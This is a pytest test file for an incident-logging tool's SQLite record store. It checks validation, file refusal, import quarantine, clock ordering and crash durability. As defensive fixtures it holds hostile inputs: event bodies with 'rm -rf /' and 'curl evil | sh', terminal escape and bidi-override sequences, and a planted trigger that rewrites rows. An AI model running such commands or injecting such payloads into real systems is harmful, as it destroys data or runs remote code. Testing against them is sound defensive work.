"""The record (.warroom/record.db): real databases in temp folders, real processes killed with SIGKILL.

The record is the file the console and the CLI write; the committed warroom.db is only an
exchange copy that `Store.import_file` reads, validates row by row and unions in.
"""

from __future__ import annotations

import json
import os
import signal
import sqlite3
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from warroom.errors import InvalidEvent, RefusedFile, StoreError
from warroom.record.clock import FrozenClock, HybridLogicalClock, parse_hlc
from warroom.record.events import MAX_TEXT, Event, format_time, new_id
from warroom.record.dbfile import RECORD_VERSION, check_file, create_record, signature
from warroom.record.store import Store
from warroom.paths import record_path
from warroom.share import exchange

NOW = "2026-11-24T15:00:00Z"


def declare(store: Store, title: str = "Checkout returns 500") -> Event:
    return store.append("incident.declared", None, {"title": title, "severity": "P1"})


def new_record(tmp_path: Path, name: str = "room", **kwargs) -> Store:
    kwargs.setdefault("author", "a")
    return Store(record_path(tmp_path / name), create_missing=True, **kwargs)


def raw_insert(store: Store, *rows: tuple) -> None:
    """Rows written straight into the record's events table (what an old or hostile writer did)."""
    store.conn.executemany("insert into events (id, incident, hlc, author, kind, at, body) values (?,?,?,?,?,?,?)",
                           rows)


def snapshot(path: Path) -> tuple[bytes, int, list[str]]:
    """The file's bytes and mtime, and what else is in its folder (no -wal/-shm may appear)."""
    return path.read_bytes(), path.stat().st_mtime_ns, sorted(p.name for p in path.parent.iterdir())


def test_create_record_schema_app_and_its_own_gitignore(tmp_path: Path):
    path = record_path(tmp_path)
    assert path == tmp_path / ".warroom" / "record.db"
    create_record(path)
    conn = sqlite3.connect(path)
    meta = dict(conn.execute("select key, value from meta"))
    assert meta["app"] == "warroom-record" and meta["schema_version"] == str(RECORD_VERSION) == "2"
    assert len(meta["copy_id"]) == 36
    columns = [row[1] for row in conn.execute("pragma table_info(events)")]
    assert columns[:8] == ["id", "incident", "hlc", "author", "kind", "at", "body", "target"]
    tables = {row[0] for row in conn.execute("select name from sqlite_master where type = 'table'")}
    assert {"meta", "events", "imports", "quarantine", "entries", "incidents"} <= tables
    assert conn.execute("pragma journal_mode").fetchone()[0] == "wal"
    conn.close()
    assert (path.parent / ".gitignore").read_text().splitlines()[-1] == "*"  # git never sees the record
    assert not list(path.parent.glob("*.creating"))
    with pytest.raises(StoreError, match="already exists"):
        create_record(path)
    other = record_path(tmp_path / "other")
    create_record(other)
    with Store(path) as one, Store(other) as two:
        assert one.copy_id != two.copy_id  # every copy has its own id (its ref's name)


def test_append_and_load_round_trip(tmp_path: Path):
    clock = FrozenClock(NOW)
    with new_record(tmp_path, clock=clock, author="alice") as store:
        assert store.conn.execute("pragma journal_mode").fetchone()[0] == "wal"
        assert store.conn.execute("pragma synchronous").fetchone()[0] == 2  # FULL
        opened = declare(store)
        clock.advance(5)
        logged = store.append("entry.logged", opened.id, {"text": "rolled back ünïcode", "type": "action"})
        loaded = store.load()
    assert loaded.quarantined == []
    assert loaded.events == [opened, logged]
    assert opened.incident == opened.id and opened.author == "alice"
    assert opened.at == "2026-11-24T15:00:00.000Z" and logged.at == "2026-11-24T15:00:05.000Z"
    assert logged.body == {"text": "rolled back ünïcode", "type": "action"}
    assert opened.hlc < logged.hlc


def test_missing_record_is_not_created_by_default(tmp_path: Path):
    with pytest.raises(RefusedFile, match="warroom init"):
        Store(tmp_path / "nope.db")
    assert not (tmp_path / "nope.db").exists()


def test_two_writers_on_one_file_keep_causal_order(tmp_path: Path):
    """A writer whose wall clock is an hour behind still stamps after what it has seen."""
    path = record_path(tmp_path)
    ahead = FrozenClock("2026-11-24T16:00:00Z")
    behind = FrozenClock("2026-11-24T15:00:00Z")
    with Store(path, clock=ahead, author="a", create_missing=True) as a, Store(path, clock=behind, author="b") as b:
        first = declare(a)
        second = b.append("entry.logged", first.id, {"text": "reply", "type": "note"})
        third = a.append("entry.logged", first.id, {"text": "again", "type": "note"})
        assert first.hlc < second.hlc < third.hlc
        assert parse_hlc(second.hlc)[0] >= parse_hlc(first.hlc)[0]
        # b reads what a wrote after b's last look, and nothing twice.
        b.load()
        fourth = a.append("entry.logged", first.id, {"text": "more", "type": "note"})
        assert [e.id for e in b.load_new().events] == [fourth.id]
        assert b.load_new().events == []
        assert b.count() == 4


def test_undecodable_rows_are_quarantined_not_fatal(tmp_path: Path):
    with new_record(tmp_path) as store:
        good = declare(store)
        at = format_time(store.clock.now())
        raw_insert(store, (new_id(), good.id, "0000000000001.00000", "x", "entry.logged", at, "{not json"),
                   (new_id(), good.id, "0000000000001.00001", "x", "entry.logged", at, "[1, 2]"))
        loaded = store.load()
    assert [e.id for e in loaded.events] == [good.id]
    assert len(loaded.quarantined) == 2
    assert all("undecodable" in q.reason for q in loaded.quarantined)


def test_a_record_moved_aside_and_replaced_is_noticed(tmp_path: Path):
    """Someone moves the record aside and another takes its place: the next write goes there."""
    path = record_path(tmp_path / "a")
    other = record_path(tmp_path / "b")
    with Store(path, create_missing=True, author="a") as store, Store(other, create_missing=True, author="b") as o:
        declare(store)
        theirs = declare(o, "from the other copy")
        o.checkpoint()
        os.replace(other, path)
        logged = store.append("entry.logged", theirs.id, {"text": "written after the swap", "type": "note"})
        assert [e.id for e in store.load().events] == [theirs.id, logged.id]


# --- refusing files that are not a record, without touching them ---------------------


def test_text_file_is_refused_untouched(tmp_path: Path):
    path = tmp_path / "notes.db"
    path.write_text("these are my notes\n" * 100)
    before = snapshot(path)
    with pytest.raises(RefusedFile, match="not an SQLite file"):
        Store(path)
    assert snapshot(path) == before


def test_empty_file_is_refused_untouched(tmp_path: Path):
    path = tmp_path / "empty.db"
    path.write_bytes(b"")
    before = snapshot(path)
    with pytest.raises(RefusedFile, match="not a warroom database"):
        Store(path)
    assert snapshot(path) == before


def truncated_copy(tmp_path: Path) -> Path:
    with new_record(tmp_path, "full") as store:
        opened = declare(store)
        for i in range(300):
            store.append("entry.logged", opened.id, {"text": f"entry {i} " + "x" * 200, "type": "note"})
        store.checkpoint()
        data = store.path.read_bytes()
    assert len(data) > 20_000
    folder = tmp_path / "cut"
    folder.mkdir()
    path = folder / "record.db"
    path.write_bytes(data[: len(data) // 3])
    return path


def test_truncated_record_is_refused_untouched(tmp_path: Path):
    path = truncated_copy(tmp_path)
    before = snapshot(path)
    with pytest.raises(RefusedFile) as caught:
        Store(path)
    assert "damaged" in str(caught.value) and str(path) in str(caught.value)
    assert snapshot(path) == before


@pytest.mark.parametrize("wal", [False, True])
def test_foreign_sqlite_file_is_refused_untouched(tmp_path: Path, wal: bool):
    path = tmp_path / "app.db"
    conn = sqlite3.connect(path)
    if wal:
        conn.execute("pragma journal_mode=wal")
    conn.execute("create table users (id integer primary key, name text)")
    conn.execute("insert into users (name) values ('x')")
    conn.commit()
    conn.close()
    before = snapshot(path)
    with pytest.raises(RefusedFile, match="not a warroom database"):
        Store(path)
    assert snapshot(path) == before


def test_other_apps_events_table_is_refused(tmp_path: Path):
    path = tmp_path / "app.db"
    conn = sqlite3.connect(path)
    conn.execute("create table events (id text)")
    conn.execute("create table meta (key text, value text)")
    conn.execute("insert into meta values ('app', 'calendar')")
    conn.commit()
    conn.close()
    before = snapshot(path)
    with pytest.raises(RefusedFile, match="another application"):
        Store(path)
    assert snapshot(path) == before


def test_an_exchange_copy_is_not_a_record(tmp_path: Path):
    """Store opens only a record: the committed warroom.db is refused, naming what it is."""
    path = tmp_path / "warroom.db"
    exchange.write_rows(path, [])
    before = snapshot(path)
    with pytest.raises(RefusedFile) as caught:
        Store(path)
    assert "exchange copy" in str(caught.value) and str(path) in str(caught.value)
    assert snapshot(path) == before
    record = record_path(tmp_path / "r")
    create_record(record)
    with pytest.raises(RefusedFile, match="not an exchange copy"):
        check_file(record)


def test_newer_record_schema_is_refused_untouched(tmp_path: Path):
    path = record_path(tmp_path)
    create_record(path)
    conn = sqlite3.connect(path)
    conn.execute("update meta set value = ? where key = 'schema_version'", (str(RECORD_VERSION + 1),))
    conn.commit()
    conn.close()
    before = snapshot(path)
    with pytest.raises(RefusedFile, match="newer warroom"):
        Store(path)
    assert snapshot(path) == before


def test_folder_as_database(tmp_path: Path):
    with pytest.raises(StoreError, match="folder"):
        check_file(tmp_path)


# --- every append is checked as the fold would check it ---------------------------------------


@pytest.mark.parametrize("kind, body, at, why", [
    ("entry.logged", {"text": 42, "type": "note"}, None, "text should be str"),
    ("entry.logged", {"text": "x", "type": "rant"}, None, "unknown entry type"),
    ("shell.exec", {"command": "rm -rf /"}, None, "unknown kind"),
    ("entry.logged", {"text": "x" * (MAX_TEXT + 1), "type": "note"}, None, "too long"),
    ("entry.logged", {"text": "x", "type": "note"}, "9999-12-31T23:59:59.000Z", "malformed time"),
    ("entry.logged", {"text": "x", "type": "note"}, "1969-12-31T23:59:59.000Z", "malformed time"),
    ("incident.field", {"field": "detected_at", "value": "yesterday"}, None, "not a time"),
])
def test_append_refuses_what_the_fold_would_refuse(tmp_path: Path, kind, body, at, why):
    with new_record(tmp_path) as store:
        incident = declare(store)
        before = store.conn.execute("select count(*) from entries").fetchone()[0]
        with pytest.raises(InvalidEvent) as caught:
            store.append(kind, incident.id, body, at=at)
        assert why in str(caught.value) and "nothing was logged" in str(caught.value)
        assert caught.value.exit_code == 2
        assert store.count() == 1
        assert store.conn.execute("select count(*) from entries").fetchone()[0] == before


def test_a_pasted_stack_trace_fits(tmp_path: Path):
    trace = "\n".join(f'  File "app.py", line {n}, in handler_{n}' for n in range(600))[:20_000]
    with new_record(tmp_path) as store:
        incident = declare(store)
        logged = store.append("entry.logged", incident.id, {"text": trace, "type": "finding"})
        [row] = [row for row in store.timeline(incident.id) if row[0] == logged.id]
    assert row[6] == trace


def test_appends_keep_the_derived_tables_in_the_same_transaction(tmp_path: Path):
    clock = FrozenClock(NOW)
    with new_record(tmp_path, clock=clock) as store:
        incident = declare(store)
        clock.advance(1)
        entry = store.append("entry.logged", incident.id, {"text": "first text", "type": "note"})
        clock.advance(1)
        store.append("entry.edited", incident.id, {"target": entry.id, "text": "second text"})
        store.append("incident.status", incident.id, {"status": "identified"})
        # Another connection (another process) sees the rows as soon as append returned.
        with Store(store.path, author="reader") as reader:
            rows = {row[0]: row for row in reader.timeline(incident.id)}
            assert rows[entry.id][6] == "second text" and rows[entry.id][10] == 2  # 2 revisions
            assert reader.summaries() == [(incident.id, incident.at, "identified", "P1", "Checkout returns 500")]
        incremental = (store.conn.execute("select * from entries order by id").fetchall(),
                       store.conn.execute("select * from incidents").fetchall())
        store.rebuild_views()
        assert (store.conn.execute("select * from entries order by id").fetchall(),
                store.conn.execute("select * from incidents").fetchall()) == incremental


# --- importing an exchange copy ---------------------------------------------------------------


def row(event: Event, body: str | None = None) -> tuple:
    values = event.to_row()
    return (values["id"], values["incident"], values["hlc"], values["author"], values["kind"], values["at"],
            body if body is not None else values["body"])


def test_import_adds_valid_events_and_quarantines_the_rest(tmp_path: Path):
    clock = FrozenClock(NOW)
    with new_record(tmp_path, clock=clock, author="alice") as store:
        incident = declare(store)
        mine = store.append("entry.logged", incident.id, {"text": "mine", "type": "note"})
        theirs = Event(new_id(), incident.id, "1795532400001.00000", "bob", "entry.logged",
                       "2026-11-24T15:00:01.000Z", {"text": "theirs", "type": "note"})
        future = Event(new_id(), incident.id, "9999999999999.99999", "bob", "entry.logged",
                       "2026-11-24T15:00:02.000Z", {"text": "from the far future", "type": "note"})
        unknown = Event(new_id(), incident.id, "1795532400002.00000", "bob", "shell.exec",
                        "2026-11-24T15:00:02.000Z", {"command": "curl evil | sh"})
        forged = Event(mine.id, mine.incident, mine.hlc, "mallory", mine.kind, mine.at, {"text": "forged", "type": "note"})
        broken_id = new_id()
        copy = tmp_path / "warroom.db"
        exchange.write_rows(copy, [
            row(incident, json.dumps(incident.body, indent=2)),  # the same event, other spacing
            row(theirs),
            row(future),
            row(unknown),
            row(forged),
            (broken_id, incident.id, "1795532400003.00000", "bob", "entry.logged", "2026-11-24T15:00:03.000Z",
             "{not json"),
        ])
        result = store.import_file(copy, "file:warroom.db", signature(copy))
        assert [e.id for e in result.added] == [theirs.id]
        assert result.already_present == 1
        reasons = {q.id: q.reason for q in result.quarantined}
        assert set(reasons) == {future.id, unknown.id, mine.id, broken_id}
        assert "ahead of this machine's clock" in reasons[future.id]
        assert "unknown kind" in reasons[unknown.id]
        assert "collides" in reasons[mine.id]
        assert "JSON" in reasons[broken_id]
        assert "1 new event(s), 1 already present, 4 quarantined" in result.summary()
        assert {q[0] for q in store.quarantine()} == set(reasons)
        assert store.imported("file:warroom.db") == signature(copy)
        held = {e.id: e for e in store.load().events}
        assert held[mine.id] == mine and held[theirs.id] == theirs and future.id not in held
        # The poisoned stamp did not pull the clock: the next stamp is the wall clock's.
        clock.advance(1)
        after = store.append("entry.logged", incident.id, {"text": "after", "type": "note"})
        assert len(after.hlc) == 19 and after.hlc.startswith(str(int(clock.now().timestamp() * 1000)))
        again = store.import_file(copy, "file:warroom.db")
        assert again.added == [] and again.already_present == 2  # theirs is now held too
        rows = {r[0]: r for r in store.timeline(incident.id)}
        assert rows[theirs.id][6] == "theirs" and rows[mine.id][6] == "mine"


def test_import_of_a_file_holding_one_id_twice_believes_neither(tmp_path: Path):
    with new_record(tmp_path) as store:
        incident = declare(store)
        one = Event(new_id(), incident.id, "1795532400001.00000", "bob", "entry.logged", "2026-11-24T15:00:01.000Z",
                    {"text": "one", "type": "note"})
        two = Event(one.id, incident.id, one.hlc, "bob", "entry.logged", one.at, {"text": "two", "type": "note"})
        same = Event(new_id(), incident.id, "1795532400002.00000", "bob", "entry.logged", one.at,
                     {"text": "twice, identical", "type": "note"})
        copy = tmp_path / "warroom.db"
        conn = sqlite3.connect(copy)
        conn.executescript("create table meta (key text, value text); create table events "
                           "(id text, incident text, hlc text, author text, kind text, at text, body text);"
                           "insert into meta values ('app', 'warroom'), ('schema_version', '1');")
        conn.executemany("insert into events values (?,?,?,?,?,?,?)", [row(one), row(two), row(same), row(same)])
        conn.commit()
        conn.close()
        result = store.import_file(copy, "teammate")
        assert [e.id for e in result.added] == [same.id]
        assert [(q.id, "twice" in q.reason) for q in result.quarantined] == [(one.id, True)]
        assert one.id not in {e.id for e in store.load().events}


@pytest.mark.parametrize("content", [b"just some text\n", b"SQLite format 3\x00" + b"\x00" * 200, b""])
def test_import_of_a_file_that_is_not_an_exchange_copy_changes_nothing(tmp_path: Path, content: bytes):
    with new_record(tmp_path) as store:
        declare(store)
        before = store.load().events
        bad = tmp_path / "warroom.db"
        bad.write_bytes(content)
        with pytest.raises(StoreError):
            store.import_file(bad, "file:warroom.db")
        assert store.load().events == before
        assert store.imported("file:warroom.db") is None
        with pytest.raises(RefusedFile, match="a record"):
            store.import_file(store.path, "myself")


def test_import_takes_no_schema_object_across(tmp_path: Path):
    """A trigger, a view, an index or an extra table in the copy stays there."""
    clock = FrozenClock(NOW)
    with new_record(tmp_path, clock=clock) as store:
        incident = declare(store)
        copy = tmp_path / "warroom.db"
        exchange.write(store.path, copy)
        conn = sqlite3.connect(copy)
        conn.executescript("""
            create trigger hush after insert on events begin
              update events set body = json_set(body, '$.text', 'nothing to see here') where id = new.id;
            end;
            create view everything as select * from events;
            create table loot (x);
            create index by_author on events (author);
        """)
        conn.execute("insert into events values (?,?,?,?,?,?,?)", row(Event(
            new_id(), incident.id, "1795532400001.00000", "bob", "entry.logged", "2026-11-24T15:00:01.000Z",
            {"text": "from the copy", "type": "note"})))
        conn.commit()
        conn.close()
        result = store.import_file(copy, "file:warroom.db")
        assert len(result.added) == 1  # the trigger rewrote that row in the copy: what it says is taken
        clock.advance(2)
        logged = store.append("entry.logged", incident.id, {"text": "Root cause: the pool", "type": "finding"})
        assert store.events("where id = ?", (logged.id,))[0].body["text"] == "Root cause: the pool"
        names = {r[0] for r in store.conn.execute("select name from sqlite_master")}
        assert not names & {"hush", "everything", "loot", "by_author"}


def test_the_stamp_encoding_cannot_overflow():
    """A clock past 2286 (13 digits of milliseconds) still stamps 13 digits, which the fold takes."""
    clock = FrozenClock("2286-11-20T17:46:39.999Z")
    hlc = HybridLogicalClock(clock)
    stamps = [hlc.tick() for _ in range(100_005)]
    assert all(len(s) == 19 and parse_hlc(s) for s in stamps[-10:])
    assert stamps == sorted(stamps) and stamps[-1] == "9999999999999.99999"


# --- durability: what append returned survives kill -9 -----------------------------

WRITER = textwrap.dedent("""
    import sys
    from warroom.record.store import Store

    store = Store(sys.argv[1], author="writer")
    incident = sys.argv[2]
    i = 0
    while True:
        event = store.append("entry.logged", incident, {"text": f"entry {i}", "type": "note"})
        sys.stdout.write(event.id + "\\n")
        sys.stdout.flush()
        i += 1
""")


def test_logged_entries_survive_kill_9(tmp_path: Path):
    path = record_path(tmp_path)
    with Store(path, create_missing=True, author="a") as store:
        incident = declare(store).id
    proc = subprocess.Popen([sys.executable, "-c", WRITER, str(path), incident],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    reported: list[str] = []
    try:
        for line in proc.stdout:
            reported.append(line)
            if len(reported) >= 150:
                break
        proc.send_signal(signal.SIGKILL)
        rest, err = proc.communicate(timeout=20)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == -signal.SIGKILL, err
    reported += rest.splitlines(keepends=True)
    ids = [line.strip() for line in reported if line.endswith("\n") and len(line.strip()) == 36]
    assert len(ids) >= 150
    # Read the file as a fresh process would: no help from the writer's connection.
    conn = sqlite3.connect(path)
    stored = {row[0] for row in conn.execute("select id from events")}
    shown = {row[0] for row in conn.execute("select id from entries")}
    assert conn.execute("pragma integrity_check").fetchone()[0] == "ok"
    conn.close()
    missing = [i for i in ids if i not in stored]
    assert missing == []
    assert set(ids) <= shown  # the timeline rows were committed with their events
    with Store(path, author="b") as store:
        assert store.count() == len(stored)


def test_malformed_stamps_in_an_old_record_do_not_brick_it(tmp_path: Path):
    """Rows whose hlc sorts above every real stamp: open, append and load still work."""
    with new_record(tmp_path) as store:
        opened = declare(store)
        for stamp in ("zzz", "9999999999999x", 17, "9999999999999.99999"):
            raw_insert(store, (new_id(), opened.id, stamp, "x", "entry.logged", opened.at,
                               '{"text": "bad stamp", "type": "note"}'))
        path = store.path
    with Store(path, author="b") as store:
        logged = store.append("entry.logged", opened.id, {"text": "still works", "type": "note"})
        assert logged.hlc > opened.hlc and len(logged.hlc) == 19 and not logged.hlc.startswith("9999")
        loaded = store.load()
        assert len(loaded.events) == 6
        again = store.append("entry.logged", opened.id, {"text": "and again", "type": "note"})
        assert again.hlc > logged.hlc


def test_hostile_bodies_are_quarantined(tmp_path: Path):
    with new_record(tmp_path) as store:
        opened = declare(store)
        for body in ("[" * 60_000, "{\"text\": \"" + "x" * 400_000 + "\"}", b"\x00\x01", "", "null"):
            raw_insert(store, (new_id(), opened.id, "0000000000001.00000", "x", "entry.logged", opened.at, body))
        loaded = store.load()
    assert [e.id for e in loaded.events] == [opened.id]
    assert len(loaded.quarantined) == 5


def test_appended_text_is_stored_as_every_reader_reads_it(tmp_path: Path):
    """Store.append (not only Room.append) stores text inert: the timeline rows, the returned
    event and the event read back all agree, and hold no escape or control character."""
    with new_record(tmp_path) as store:
        incident = declare(store, "title \x1b]0;PWNED\x07")
        logged = store.append("entry.logged", incident.id, {"text": "bell \x07 esc \x1b[2J csi \x9b1m \u202eevil\tok\nnext",
                                                            "type": "note"})
        assert store.load().events == [incident, logged]
        rows = [r[6] for r in store.timeline(incident.id)]
        summary = store.summaries()[0]
    for text in [logged.body["text"], incident.body["title"], summary[4], *rows]:
        assert not any(ch in text for ch in "\x1b\x07\x9b\u202e"), text
    assert "\tok\nnext" in logged.body["text"]
